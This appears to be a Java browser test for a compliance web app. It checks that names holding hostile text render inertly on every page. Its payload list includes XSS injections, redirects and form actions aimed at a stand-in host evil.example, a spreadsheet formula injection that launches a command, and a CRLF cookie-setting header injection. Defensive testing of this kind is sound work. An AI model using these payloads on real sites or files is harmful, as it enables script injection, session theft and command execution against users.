package dev.plumbline.web.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import dev.plumbline.violations.Violation;
import dev.plumbline.web.fakes.Company;
import dev.plumbline.web.fakes.FakeCompany;
import dev.plumbline.web.fakes.FakeLedger;
import dev.plumbline.web.fakes.Gaps;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import jakarta.inject.Inject;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Names and values that attack stay text: in a real browser nothing runs, and nothing is even tried. */
@QuarkusTest
@TestProfile(FakeCompany.class)
class HostileTextTest {

    private static final List<String> SHAPES = List.of(
            "<script>alert(%d)</script>",
            "\"><script>alert(%d)</script>",
            "'><script>alert(%d)</script>",
            "<img src=x onerror=alert(%d)>",
            "\" onmouseover=\"alert(%d)",
            "' autofocus onfocus='alert(%d)",
            "<svg/onload=alert(%d)>",
            "<iframe srcdoc='<script>parent.alert(%d)</script>'>",
            "</title><script>alert(%d)</script>",
            "</textarea><script>alert(%d)</script>",
            "</option></select><script>alert(%d)</script>",
            "<a href=javascript:alert(%d)>x</a>",
            "javascript:alert(%d)",
            "<div hx-get=/rules hx-trigger=load hx-on:htmx:load=alert(%d)>x</div>",
            "<form action=//evil.example><button>%d",
            "<base href=//evil.example/%d>",
            "<link rel=stylesheet href=//evil.example/%d.css>",
            "<style>body{display:none}</style>%d",
            "<meta http-equiv=refresh content='0;url=//evil.example/%d'>",
            "{inject:csrf.token} {7*7} ${7*7} {{7*7}} %d",
            "%%3Cscript%%3Ealert(%d)%%3C/script%%3E",
            "&lt;script&gt;alert(%d)&lt;/script&gt;",
            "\u202Egnp.exe %d \u2066\u2067",
            "=cmd|' /C calc'!A%d",
            "a\r\nSet-Cookie: x=%d",
            "\u0000\u0007%d",
            "😀👩‍👩‍👧‍👦 %d");

    @Inject
    FakeLedger ledger;

    @AfterEach
    void believable() {
        ledger.reset();
    }

    @Test
    void staysTextOnEveryPage() {
        ledger.clear();
        ledger.add(corpus());
        try (Chromium chromium = new Chromium()) {
            Page page = chromium.signedIn("chief", 1280, 900, ColorScheme.LIGHT);
            long gaps = corpus().size();
            for (long id = 1; id <= gaps; id++) {
                chromium.go(page, "/gaps/" + id);
                assertInert(page, "/gaps/" + id);
            }
            for (String path : List.of(
                    "/",
                    "/gaps",
                    "/people",
                    "/people/" + Company.MALLORY.value(),
                    "/rules",
                    "/rules/big-deals",
                    "/answers",
                    "/disputes",
                    "/exceptions",
                    "/obstacles")) {
                chromium.go(page, path);
                assertInert(page, path);
            }
            assertThat(chromium.complaints()).isEmpty();
        }
    }

    @Test
    void textOfAHundredKilobytesIsCutAndStillFits() {
        ledger.clear();
        ledger.add(List.of(Gaps.named(1, "A".repeat(100_000)), Gaps.named(2, "👩‍👩‍👧".repeat(20_000))));
        try (Chromium chromium = new Chromium()) {
            Page page = chromium.signedIn("chief", 360, 740, ColorScheme.LIGHT);
            for (String path : List.of("/gaps", "/gaps/1", "/gaps/2")) {
                chromium.go(page, path);
                assertThat(page.content().length()).as(path).isLessThan(60_000);
                assertThat(((Number) page.evaluate("document.documentElement.scrollWidth - innerWidth")).intValue())
                        .as(path)
                        .isNotPositive();
            }
        }
    }

    private static void assertInert(Page page, String path) {
        Object planted = page.evaluate(
                "document.querySelectorAll(\"main script, main iframe, main img, main base, main style, main link,"
                        + " main meta, main [onerror], main [onmouseover], main [onfocus], main [onload], main a[href^='javascript']\").length");
        assertThat(((Number) planted).intValue()).as(path).isZero();
        assertThat(page.url()).as(path).endsWith(path);
        assertThat(page.locator("main").innerText()).as(path).doesNotContain(" 49 ");
    }

    private static List<Violation> corpus() {
        List<Violation> gaps = new ArrayList<>();
        for (String shape : SHAPES) {
            int number = gaps.size() + 1;
            gaps.add(Gaps.named(number, shape.formatted(number)));
        }
        return gaps;
    }
}
